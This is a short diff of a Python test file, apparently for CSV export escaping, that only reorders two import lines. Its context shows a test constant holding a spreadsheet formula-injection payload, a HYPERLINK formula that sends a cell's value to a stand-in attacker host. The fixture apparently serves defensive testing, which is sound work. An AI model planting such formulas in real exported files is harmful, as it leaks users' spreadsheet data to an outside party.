@@ -12,8 +12,8 @@ from app.core.csv_cells import csv_cell
 from tests.auth.support import make_org
 from tests.conftest import RunningApp
 from tests.helpers import make_tenant_key
-from tests.reports.support import answered, at, store_facts
 from tests.plans.test_plans import ADMIN, plan
+from tests.reports.support import answered, at, store_facts
 
 TZ = "Europe/Berlin"
 HYPERLINK_QUEUE = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
